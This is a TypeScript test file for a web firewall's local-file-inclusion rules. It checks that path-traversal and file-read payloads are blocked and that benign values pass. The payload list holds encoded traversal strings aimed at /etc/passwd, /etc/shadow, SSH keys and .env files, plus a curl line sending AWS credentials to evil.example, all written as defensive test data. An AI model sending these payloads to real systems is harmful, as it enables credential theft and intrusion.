import test from "ava";
import { join } from "node:path";
import { DEFAULT_SETTINGS, WafEngine, type WafVerdict } from "../../../../proxy/waf/engine.js";
import { loadRules } from "../../../../proxy/waf/rule-file.js";
import { bundledRulesDir } from "../../../../proxy/waf/settings.js";
import type { WafInput } from "../../../../proxy/waf/types.js";

const rules = loadRules(join(bundledRulesDir(), "130-lfi.yaml"));
const engines = new Map<number, WafEngine>();

function engineAt(paranoia: number): WafEngine {
  let e = engines.get(paranoia);
  if (e === undefined) {
    e = new WafEngine(rules, { ...DEFAULT_SETTINGS, paranoia, detectionParanoia: paranoia });
    engines.set(paranoia, e);
  }
  return e;
}

// rawquery: the query string exactly as sent; path: the request path exactly as sent.
type Place = "query" | "rawquery" | "form" | "json" | "cookie" | "header" | "ua" | "referer" | "xml" | "upload" | "path";

function request(place: Place, value: string): WafInput {
  const host: [string, string] = ["host", "x"];
  const get = (uri: string, ...headers: [string, string][]): WafInput => ({ method: "GET", uri, protocol: "HTTP/1.1", headers: [host, ...headers] });
  const post = (type: string, body: string): WafInput => ({
    method: "POST",
    uri: "/app",
    protocol: "HTTP/1.1",
    headers: [host, ["content-type", type]],
    body: Buffer.from(body, "latin1"),
  });
  switch (place) {
    case "query":
      return get(`/app?v=${encodeURIComponent(value)}`);
    case "rawquery":
      return get(`/app?${value}`);
    case "form":
      return post("application/x-www-form-urlencoded", `v=${encodeURIComponent(value)}`);
    case "json":
      return post("application/json", JSON.stringify({ data: { v: value } }));
    case "xml":
      return post("application/xml", `<?xml version="1.0"?><r><v a="${value.replace(/&/g, "&amp;").replace(/"/g, "&quot;").replace(/</g, "&lt;")}"/></r>`);
    case "cookie":
      return get("/app", ["cookie", `a=1; v=${value}`]);
    case "header":
      return get("/app", ["x-original-path", value]);
    case "ua":
      return get("/app", ["user-agent", value]);
    case "referer":
      return get("/app", ["referer", value]);
    case "path":
      return get(value);
    case "upload": {
      const b = "----b0undary";
      const body = `--${b}\r\nContent-Disposition: form-data; name="f"; filename="${value}"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--${b}--\r\n`;
      return post(`multipart/form-data; boundary=${b}`, body);
    }
  }
}

function verdict(paranoia: number, place: Place, value: string): WafVerdict {
  return engineAt(paranoia).evaluate(request(place, value), { route: "", path: "/app" });
}

// [place, payload, lowest paranoia level that blocks it]
const ATTACKS: readonly (readonly [Place, string, number])[] = [
  ["query", "../../../../etc/passwd", 1],
  ["rawquery", "file=..%252f..%252f..%252fetc%252fpasswd", 1],
  ["rawquery", "file=%c0%ae%c0%ae/%c0%ae%c0%ae/windows/win.ini", 1],
  ["rawquery", "file=%uff0e%uff0e%u2215%uff0e%uff0e%u2215boot.ini", 1],
  ["form", "....//....//....//etc/passwd", 1],
  ["json", "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts", 1],
  ["cookie", "../../../../proc/self/environ", 1],
  ["header", "/static/../../../etc/shadow", 1],
  ["upload", "../../var/www/html/shell.php", 1],
  ["xml", "/app/..;/..;/WEB-INF/web.xml", 1],
  ["path", "/static/%2e%2e/%2e%2e/etc/passwd", 1],
  ["path", "/static/..%c0%af..%c0%afetc/passwd", 1],
  ["query", "/etc/passwd", 1],
  ["query", "C:\\Windows\\win.ini", 1],
  ["query", "/etc/./shadow", 1],
  ["query", ".env.production", 1],
  ["json", "/home/deploy/.ssh/id_rsa", 1],
  ["query", "/proc/self/cmdline", 1],
  ["form", "cat >/tmp/x.sh", 1],
  ["query", "backup.sql.gz", 1],
  ["path", "/.git/config", 1],
  ["path", "/backup/db.sql.gz", 1],
  ["path", "/wp-config.php.bak", 1],
  ["path", "/index.php~", 1],
  ["path", "/.vscode/settings.json", 1],
  ["path", "/app/.claude/settings.local.json", 1],
  ["path", "/proc/self/environ", 1],
  ["path", "/@fs/etc/passwd", 1],
  ["path", "/wp-content/debug.log", 1],
  ["ua", "cat /etc/passwd", 2],
  ["ua", "curl -d @/root/.aws/credentials evil.example", 2],
  ["path", "/.hidden-thing/data", 2],
];

for (const [place, payload, pl] of ATTACKS) {
  test(`blocks at PL${pl} (${place}): ${JSON.stringify(payload)}`, (t) => {
    const v = verdict(pl, place, payload);
    t.is(v.action, "block", JSON.stringify(v.matches.map((m) => m.id)));
    t.true(v.matches.every((m) => m.id >= 130000 && m.id <= 130999));
    if (pl > 1) t.is(verdict(pl - 1, place, payload).action, "pass", "belongs to the stricter level only");
  });
}

// Benign values that must pass at PL1; those marked true must also pass at PL2.
const BENIGN: readonly (readonly [Place, string, boolean])[] = [
  ["query", "images/photo.jpg", true],
  ["query", "Wait... what?", true],
  ["query", "...", true],
  ["query", "..", true],
  ["form", "Release 1.2.3 .. 1.2.4 (see changelog)", true],
  ["json", "/api/v1/users/42", true],
  ["query", "report.final.v2.pdf", true],
  ["form", "C:\\Users\\Public\\Documents\\report.docx", true],
  ["query", "firstname.dockery@host.tld", true],
  ["rawquery", "history.history=test", true],
  ["query", "environment=production", true],
  ["form", "code=>/tmp", true],
  ["form", "Pens, paper, etc. etc.", true],
  ["query", "my.profile.page", true],
  ["cookie", "abc.def.ghi", true],
  ["path", "/.well-known/security.txt", true],
  ["path", "/jquery.history.min.js", true],
  ["path", "/node_modules/@osd/ui-framework/dist/kui_light.css", true],
  ["path", "/api/continue/session", true],
  ["path", "/assets/app.3f2a1b.js", true],
  ["path", "/blog/2024/05/the-sys-admin-guide", true],
  ["path", "/get/foo../1234", true],
  ["path", "/get/..foo", true],
  ["ua", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", true],
  ["referer", "https://example.com/docs/../index.html", true],
  ["upload", "holiday-photo.jpg", true],
  ["xml", "https://example.com/feed.xml", true],
];

for (const [place, value, alsoPl2] of BENIGN) {
  test(`passes at PL1${alsoPl2 ? " and PL2" : ""} (${place}): ${JSON.stringify(value)}`, (t) => {
    const v1 = verdict(1, place, value);
    t.is(v1.action, "pass", JSON.stringify(v1.matches.map((m) => `${m.id}:${m.match}`)));
    if (alsoPl2) {
      const v2 = verdict(2, place, value);
      t.is(v2.action, "pass", JSON.stringify(v2.matches.map((m) => `${m.id}:${m.match}`)));
    }
  });
}

test("every rule is in the file's id range and carries the attack-lfi and owasp-a01 tags", (t) => {
  t.true(rules.length >= 10);
  for (const r of rules) {
    t.true(r.id >= 130000 && r.id <= 130999, String(r.id));
    t.true(r.tags.includes("attack-lfi") && r.tags.includes("owasp-a01"), String(r.id));
  }
});
